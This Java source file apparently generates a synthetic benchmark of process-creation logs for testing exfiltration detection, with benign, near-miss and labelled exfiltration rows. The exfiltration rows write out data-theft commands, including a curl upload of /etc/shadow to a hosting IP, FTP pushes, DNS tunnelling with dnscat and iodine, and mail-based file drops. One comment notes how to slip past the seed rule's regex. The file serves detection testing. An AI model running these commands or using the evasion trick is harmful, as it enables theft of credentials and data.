package io.egress.bench.gen;

import static io.egress.bench.gen.ProcessSpec.home;
import static io.egress.bench.gen.RowKind.BENIGN;
import static io.egress.bench.gen.RowKind.EXFIL;
import static io.egress.bench.gen.RowKind.NEAR_MISS;
import static io.egress.bench.gen.Weighted.pick;

import java.util.List;

/**
 * The table of process creations the generator draws from. EXFIL rows hit one of the seed's four
 * process branches (FTP, HTTP upload, DNS tunnel, SMTP); NEAR_MISS rows share their tools and words
 * but must not match (https uploads, {@code sftp://}, {@code -SmtpServer}, {@code --databases},
 * {@code dnscat2}, ordinary lookups); BENIGN rows are the everyday bulk.
 */
public final class ProcessSpecs {
    private static final String SYS32 = "C:\\Windows\\system32\\";

    private ProcessSpecs() {
    }

    public static List<ProcessSpec> all() {
        return List.of(
                // ---- Windows, benign
                win(BENIGN, 20, "services.exe", "svchost.exe", (r, p) -> SYS32 + "svchost.exe -k "
                        + pick(r, "netsvcs", "LocalServiceNetworkRestricted", "DcomLaunch", "wsappx", "NetworkService")
                        + " -p -s " + pick(r, "Schedule", "Dhcp", "BITS", "wuauserv", "Appinfo", "CryptSvc", "Winmgmt")),
                win(BENIGN, 6, "svchost.exe", "taskhostw.exe", (r, p) -> "taskhostw.exe " + pick(r, "KEYROAMING", "Install $(Arg0)", "")),
                win(BENIGN, 4, "svchost.exe", "WmiPrvSE.exe", (r, p) -> SYS32 + "wbem\\wmiprvse.exe -secured -Embedding"),
                win(BENIGN, 5, "svchost.exe", "RuntimeBroker.exe", (r, p) -> "C:\\Windows\\System32\\RuntimeBroker.exe -Embedding"),
                win(BENIGN, 2, "services.exe", "MsMpEng.exe", (r, p) ->
                        "\"C:\\ProgramData\\Microsoft\\Windows Defender\\platform\\4.18.24090.11-0\\MsMpEng.exe\""),
                win(BENIGN, 2, "services.exe", "Veeam.EndPoint.Service.exe", (r, p) ->
                        "\"C:\\Program Files\\Veeam\\Endpoint Backup\\Veeam.EndPoint.Service.exe\" -backup -job \"Daily "
                                + pick(r, "C", "D", "System") + "\" -target \\\\nas01.corp.contoso.com\\backup"),
                win(BENIGN, 1, "services.exe", "msiexec.exe", (r, p) -> SYS32 + "msiexec.exe /V"),
                win(BENIGN, 6, "explorer.exe", "chrome.exe", (r, p) ->
                        "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --profile-directory=" + pick(r, "Default", "\"Profile 1\"")),
                win(BENIGN, 16, "chrome.exe", "chrome.exe", (r, p) ->
                        "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=" + pick(r,
                                "renderer --lang=en-US --renderer-client-id=" + (5 + r.nextInt(400)) + " --launch-time-ticks=" + r.nextLong(1L << 36),
                                "gpu-process --gpu-preferences=WAAAAAAAAADgAAAMAAAAAAAAAAAAAAAAAABgAAEAAAA4AAAAAAAAAAAAAAAEAAAAAAAAAA",
                                "utility --utility-sub-type=network.mojom.NetworkService --lang=en-US --service-sandbox-type=none")
                                + " --field-trial-handle=" + (1000 + r.nextInt(9000)) + ",i," + Words.hex(r, 16)),
                win(BENIGN, 4, "explorer.exe", "msedge.exe", (r, p) ->
                        "\"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe\" --single-argument https://" + Words.site(r) + "/"),
                win(BENIGN, 3, "explorer.exe", "firefox.exe", (r, p) ->
                        "\"C:\\Program Files\\Mozilla Firefox\\firefox.exe\" -contentproc -childID " + r.nextInt(60)
                                + " -isForBrowser -prefsLen 31337 -prefMapSize 244787 -parentBuildID 20241121140525 {" + Words.hex(r, 8) + "} tab"),
                win(BENIGN, 2, "explorer.exe", "OUTLOOK.EXE", (r, p) -> "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE\" "),
                win(BENIGN, 2, "explorer.exe", "ms-teams.exe", (r, p) -> "\"ms-teams.exe\" msteams:system-initiated"),
                win(BENIGN, 2, "explorer.exe", "OneDrive.exe", (r, p) -> "\"C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe\" /background"),
                win(BENIGN, 2, "explorer.exe", "notepad.exe", (r, p) -> "\"C:\\Windows\\system32\\NOTEPAD.EXE\" " + home(p) + "\\Documents\\notes.txt"),
                win(BENIGN, 3, "explorer.exe", "cmd.exe", (r, p) -> "\"C:\\Windows\\system32\\cmd.exe\" "),
                win(BENIGN, 2, "explorer.exe", "powershell.exe", (r, p) ->
                        "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -NoLogo -NoProfile"),
                win(BENIGN, 5, "cmd.exe", "git.exe", (r, p) -> "git  " + pick(r, "fetch origin", "status", "pull --rebase",
                        "push origin " + Words.branch(r), "clone https://github.com/contoso/" + Words.repo(r) + ".git", "log --oneline -n 20")),
                win(BENIGN, 3, "powershell.exe", "git.exe", (r, p) -> "\"C:\\Program Files\\Git\\cmd\\git.exe\" push --set-upstream origin " + Words.branch(r)),
                win(BENIGN, 6, "Code.exe", "git.exe", (r, p) -> "\"C:\\Program Files\\Git\\cmd\\git.exe\" -c core.quotepath=false "
                        + pick(r, "log --oneline -n 50", "status -z -uall", "rev-parse --show-toplevel", "fetch --all")),
                win(BENIGN, 2, "cmd.exe", "PING.EXE", (r, p) -> "ping  -n 4 " + Words.internalHost(r)),
                win(BENIGN, 2, "cmd.exe", "ipconfig.exe", (r, p) -> "ipconfig  " + pick(r, "/all", "/flushdns", "/renew")),
                win(BENIGN, 1, "cmd.exe", "whoami.exe", (r, p) -> "whoami  /groups"),
                win(BENIGN, 1, "cmd.exe", "tasklist.exe", (r, p) -> "tasklist  /v /fo csv"),
                win(BENIGN, 2, "cmd.exe", "Robocopy.exe", (r, p) -> "robocopy  C:\\src\\" + Words.repo(r)
                        + " \\\\fs01.corp.contoso.com\\ftp-archive\\" + p.account().name() + " /MIR /R:1 /W:1"),
                win(BENIGN, 4, "powershell.exe", "curl.exe", (r, p) -> "curl.exe -sSL https://api.github.com/repos/contoso/"
                        + Words.repo(r) + "/releases/latest -o latest.json"),
                win(BENIGN, 2, "cmd.exe", "curl.exe", (r, p) -> "curl.exe -I https://" + Words.site(r) + "/"),
                win(BENIGN, 4, "devenv.exe", "MSBuild.exe", (r, p) ->
                        "\"C:\\Program Files\\Microsoft Visual Studio\\2022\\Professional\\MSBuild\\Current\\Bin\\amd64\\MSBuild.exe\" C:\\src\\"
                                + Words.repo(r) + "\\" + Words.repo(r) + ".sln /t:Build /p:Configuration=" + pick(r, "Release", "Debug")
                                + " /m /nologo /v:minimal /nodeReuse:false"),
                win(BENIGN, 2, "devenv.exe", "VBCSCompiler.exe", (r, p) -> "\"C:\\Program Files\\Microsoft Visual Studio\\2022\\Professional"
                        + "\\MSBuild\\Current\\Bin\\Roslyn\\VBCSCompiler.exe\" \"-pipename:" + Words.label(r, 22) + "\""),
                win(BENIGN, 1, "cmd.exe", "7z.exe", (r, p) -> "7z.exe a -tzip " + home(p) + "\\Desktop\\handover.zip " + home(p) + "\\Documents\\" + Words.doc(r)),
                // ---- Windows, near misses
                win(NEAR_MISS, 3, "cmd.exe", "nslookup.exe", (r, p) -> "nslookup  " + pick(r, Words.site(r), Words.internalHost(r),
                        "-type=txt _dmarc.contoso.com", "-type=srv _ldap._tcp.dc._msdcs.corp.contoso.com")),
                win(NEAR_MISS, 3, "powershell.exe", "curl.exe", (r, p) -> "curl.exe -X POST -H \"Content-Type: application/json\" -d \"{\\\"build\\\":"
                        + r.nextInt(9999) + "}\" https://hooks." + Words.site(r) + "/ci/notify"),
                win(NEAR_MISS, 2, "cmd.exe", "curl.exe", (r, p) -> "curl.exe -s http://" + Words.internalHost(r)
                        + ":8123/?query=SHOW%20DATABASES --databases-only -o " + home(p) + "\\dbs.txt"),
                win(NEAR_MISS, 2, "cmd.exe", "curl.exe", (r, p) -> "curl.exe -T C:\\exports\\" + Words.doc(r)
                        + " sftp://sftp.partner-portal.com/incoming/ -u ftpuser:" + Words.hex(r, 8)),
                win(NEAR_MISS, 2, "powershell.exe", "powershell.exe", (r, p) -> "powershell.exe -NoProfile -Command \"Set-ReportConfig "
                        + "-SmtpServer mail.contoso.com -Port 587 -From reports@contoso.com\""),
                win(NEAR_MISS, 1, "cmd.exe", "mysqldump.exe", (r, p) -> "mysqldump.exe -u backup --databases crm billing --result-file=D:\\dumps\\crm.sql"),
                win(NEAR_MISS, 1, "cmd.exe", "curl.exe", (r, p) -> "curl.exe -s http://" + Words.internalHost(r) + "/health"),
                // ---- Windows, exfiltration
                win(EXFIL, 3, "cmd.exe", "ftp.exe", (r, p) -> "ftp.exe -i -s:" + home(p) + "\\AppData\\Local\\Temp\\ftp_" + r.nextInt(999)
                        + ".txt " + hostingIp(r)),
                win(EXFIL, 2, "explorer.exe", "WinSCP.exe", (r, p) -> "\"C:\\Program Files (x86)\\WinSCP\\WinSCP.exe\" /console /command "
                        + "\"open ftp://upload:" + Words.hex(r, 6) + "@" + hostingIp(r) + "/\" \"put " + home(p) + "\\Documents\\*.xlsx\" \"exit\""),
                win(EXFIL, 1, "explorer.exe", "filezilla.exe", (r, p) -> "\"C:\\Program Files\\FileZilla FTP Client\\filezilla.exe\" ftp://drop:"
                        + Words.hex(r, 6) + "@" + hostingIp(r)),
                win(EXFIL, 2, "cmd.exe", "curl.exe", (r, p) -> "curl.exe -T " + home(p) + "\\Documents\\" + Words.doc(r) + " ftp://" + hostingIp(r) + "/in/"),
                win(EXFIL, 3, "powershell.exe", "curl.exe", (r, p) -> "curl.exe --data-binary @" + home(p) + "\\Documents\\" + Words.doc(r)
                        + " http://" + hostingIp(r) + "/upload"),
                win(EXFIL, 2, "powershell.exe", "curl.exe", (r, p) -> "curl.exe -F file=@" + home(p) + "\\Documents\\" + Words.doc(r)
                        + " https://files." + Words.dropDomain(r) + "/api/upload"),
                win(EXFIL, 2, "cmd.exe", "curl.exe", (r, p) -> "curl.exe -d @%TEMP%\\out_" + r.nextInt(99) + ".txt http://" + hostingIp(r) + ":8080/c"),
                win(EXFIL, 3, "cmd.exe", "nslookup.exe", (r, p) -> "nslookup  " + Words.label(r, 24 + r.nextInt(30)) + "." + Words.dropDomain(r)),
                win(EXFIL, 2, "cmd.exe", "blat.exe", (r, p) -> "blat.exe " + home(p) + "\\Documents\\" + Words.doc(r) + " -to drop"
                        + r.nextInt(99) + "@protonmail.com -subject report -server smtp." + Words.dropDomain(r) + " -attach " + home(p) + "\\Documents\\" + Words.doc(r)),
                win(EXFIL, 2, "powershell.exe", "powershell.exe", (r, p) -> "powershell.exe -NoProfile -Command \"Send-MailMessage -From "
                        + p.account().upn() + " -To drop" + r.nextInt(99) + "@gmail.com -Subject sync -Attachments " + home(p) + "\\Documents\\"
                        + Words.doc(r) + " -SmtpServer smtp.gmail.com -Port 587 -UseSsl\""),
                // ---- Linux, benign
                lin(BENIGN, 5, "cron", "run-parts", (r, p) -> "run-parts --report /etc/cron." + pick(r, "hourly", "daily")),
                lin(BENIGN, 2, "cron", "restic", (r, p) -> "restic backup --repo s3:https://s3.amazonaws.com/contoso-backup/"
                        + p.device().shortName() + " /etc /var/lib/app --tag nightly"),
                lin(BENIGN, 2, "cron", "logrotate", (r, p) -> "/usr/sbin/logrotate /etc/logrotate.conf"),
                lin(BENIGN, 3, "sshd", "bash", (r, p) -> "-bash"),
                lin(BENIGN, 6, "bash", "git", (r, p) -> "git " + pick(r, "pull --ff-only", "push origin " + Words.branch(r), "status",
                        "clone git@github.com:contoso/" + Words.repo(r) + ".git")),
                lin(BENIGN, 4, "bash", "tar", (r, p) -> "tar -czf /tmp/logs-" + r.nextInt(31) + ".tar.gz /var/log/app"),
                lin(BENIGN, 4, "bash", "grep", (r, p) -> "grep -rn " + pick(r, "ERROR", "timeout", "OutOfMemory") + " /var/log/app"),
                lin(BENIGN, 2, "bash", "ssh", (r, p) -> "ssh deploy@10.20." + r.nextInt(256) + "." + (1 + r.nextInt(254))),
                lin(BENIGN, 2, "bash", "python3", (r, p) -> "python3 manage.py " + pick(r, "migrate", "collectstatic --noinput", "runserver 0.0.0.0:8000")),
                lin(BENIGN, 3, "bash", "curl", (r, p) -> "curl -fsSL https://" + pick(r, "get.docker.com -o get-docker.sh",
                        "api.github.com/repos/contoso/" + Words.repo(r) + "/tags", "pypi.org/simple/requests/")),
                lin(BENIGN, 2, "bash", "wget", (r, p) -> "wget -q https://github.com/contoso/" + Words.repo(r) + "/releases/download/v1.2."
                        + r.nextInt(20) + "/tool.tar.gz"),
                lin(BENIGN, 2, "cron", "rsync", (r, p) -> "rsync -az /srv/data/ backup@10.0.9.20:/backups/" + p.device().shortName() + "/"),
                lin(BENIGN, 1, "systemd", "dockerd", (r, p) -> "/usr/bin/dockerd -H fd:// --containerd=/run/containerd/containerd.sock"),
                lin(BENIGN, 1, "bash", "apt-get", (r, p) -> "apt-get " + pick(r, "update", "install -y jq", "upgrade -y")),
                // ---- Linux, near misses
                lin(NEAR_MISS, 2, "bash", "dig", (r, p) -> "dig +short " + pick(r, Words.site(r), "contoso.com MX", "_dmarc.contoso.com TXT")),
                lin(NEAR_MISS, 1, "bash", "sftp", (r, p) -> "sftp -b /opt/etl/batch.txt etl@sftp.partner-portal.com"),
                lin(NEAR_MISS, 1, "bash", "curl", (r, p) -> "curl -s http://10.0.0." + (1 + r.nextInt(254)) + ":8080/health"),
                lin(NEAR_MISS, 1, "bash", "wget", (r, p) -> "wget -q http://archive.ubuntu.com/ubuntu/pool/main/c/curl/curl_8.5.0-2ubuntu10_amd64.deb"),
                lin(NEAR_MISS, 1, "bash", "grep", (r, p) -> "grep -n smtp /etc/postfix/main.cf"),
                lin(NEAR_MISS, 1, "bash", "python3", (r, p) -> "python3 -m smtpd -n -c DebuggingServer localhost:1025"),
                // A blind spot of the seed: a one-letter label after the encoded one defeats its \.[a-z]{2,}.
                lin(NEAR_MISS, 1, "bash", "dig", (r, p) -> "dig @1.1.1.1 " + Words.label(r, 32) + ".t." + Words.dropDomain(r) + " TXT"),
                lin(NEAR_MISS, 1, "bash", "dnscat2", (r, p) -> "/opt/dnscat2/client/dnscat2 --help"),
                lin(NEAR_MISS, 1, "bash", "curl", (r, p) -> "curl -u ftpuser:" + Words.hex(r, 8) + " -T /srv/export/daily.csv https://files.partner-portal.com/in/"),
                // ---- Linux, exfiltration
                lin(EXFIL, 1, "bash", "lftp", (r, p) -> "lftp -u drop," + Words.hex(r, 8) + " -e \"mirror -R /srv/data /in; quit\" " + hostingIp(r)),
                lin(EXFIL, 1, "bash", "curl", (r, p) -> "curl -T /etc/shadow http://" + hostingIp(r) + "/u/" + Words.hex(r, 6)),
                lin(EXFIL, 1, "bash", "wget", (r, p) -> "wget --header \"Content-Type: multipart/form-data\" --post-file=/tmp/dump.tgz http://"
                        + hostingIp(r) + "/up"),
                lin(EXFIL, 2, "bash", "dig", (r, p) -> "dig @8.8.8.8 " + Words.label(r, 30 + r.nextInt(20)) + "." + Words.dropDomain(r) + " TXT"),
                lin(EXFIL, 1, "bash", "dnscat", (r, p) -> "./dnscat --dns domain=t." + Words.dropDomain(r) + " --secret=" + Words.hex(r, 16)),
                lin(EXFIL, 1, "bash", "iodine", (r, p) -> "iodine -f -P " + Words.hex(r, 10) + " " + hostingIp(r) + " t1." + Words.dropDomain(r)),
                lin(EXFIL, 1, "bash", "swaks", (r, p) -> "swaks --to drop" + r.nextInt(99) + "@protonmail.com --server mx." + Words.dropDomain(r)
                        + " --attach @/tmp/dump.tgz"));
    }

    private static String hostingIp(java.util.SplittableRandom r) {
        return IpAddresses.hostingV4(r);
    }

    private static ProcessSpec win(RowKind kind, int weight, String parent, String image, ProcessSpec.CommandLine cmd) {
        return new ProcessSpec(kind, Os.WINDOWS, weight, parent, image, cmd);
    }

    private static ProcessSpec lin(RowKind kind, int weight, String parent, String image, ProcessSpec.CommandLine cmd) {
        return new ProcessSpec(kind, Os.LINUX, weight, parent, image, cmd);
    }
}
